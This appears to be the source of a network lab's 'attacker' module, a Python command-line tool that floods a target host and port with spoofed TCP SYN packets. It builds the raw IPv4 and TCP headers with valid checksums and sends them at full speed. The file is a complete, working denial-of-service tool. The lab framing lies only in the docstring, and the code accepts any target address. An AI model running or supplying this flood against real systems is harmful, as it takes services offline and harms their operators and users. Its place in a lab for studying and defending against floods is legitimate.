"""An attacker on the lab's segment: a spoofed SYN flood from raw sockets.

    python -m lab.attacker syn-flood TARGET PORT --sources 10.77.0.200/29 --seconds 10

Run inside an attacker namespace of the lab (its own host on the switch). It
sends TCP SYNs to TARGET:PORT from source addresses in --sources (they must be
lab addresses nobody holds, so nobody ever answers the SYN-ACKs) and random
source ports, as fast as one process can, for --seconds or --count packets,
whichever comes first, and prints how many it sent. The packets are built
once (a few thousand distinct ones, each with a correct checksum) and sent in
a loop, so the rate is the rate of `sendto`.
"""

from __future__ import annotations

import argparse
import random
import socket
import struct
import time
from ipaddress import IPv4Address, IPv4Network

PREBUILT = 8192


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = int(sum(struct.unpack(f"!{len(data) // 2}H", data)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_packet(source: IPv4Address, target: IPv4Address, source_port: int, port: int) -> bytes:
    """An IPv4 header and a TCP SYN with an MSS option, checksums filled in."""
    options = struct.pack("!BBH", 2, 4, 1460)
    sequence = random.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 6 << 4, 0x02, 64240, 0, 0)
    tcp += options
    pseudo = source.packed + target.packed + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", _checksum(pseudo + tcp)) + tcp[18:]
    header = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(tcp),
        random.getrandbits(16),
        0,
        64,
        6,
        0,
        source.packed,
        target.packed,
    )
    header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
    return header + tcp


def syn_flood(
    target: IPv4Address, port: int, sources: IPv4Network, seconds: float, count: int
) -> int:
    addresses = list(sources.hosts()) or [sources.network_address]
    packets = [
        syn_packet(random.choice(addresses), target, random.randint(1024, 65535), port)
        for _ in range(PREBUILT)
    ]
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    destination = (str(target), 0)
    sent = 0
    deadline = time.monotonic() + seconds
    send = sender.sendto
    while sent < count and time.monotonic() < deadline:
        for packet in packets:
            try:
                send(packet, destination)
            except OSError:
                continue  # a full queue: the attacker does not care
            sent += 1
    sender.close()
    return sent


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    commands = parser.add_subparsers(dest="command", required=True)
    flood = commands.add_parser("syn-flood", help="spoofed TCP SYNs at full speed")
    flood.add_argument("target", type=IPv4Address)
    flood.add_argument("port", type=int)
    flood.add_argument("--sources", type=IPv4Network, required=True)
    flood.add_argument("--seconds", type=float, default=10.0)
    flood.add_argument("--count", type=int, default=10_000_000)
    arguments = parser.parse_args()
    sent = syn_flood(
        arguments.target, arguments.port, arguments.sources, arguments.seconds, arguments.count
    )
    print(sent)


if __name__ == "__main__":
    main()
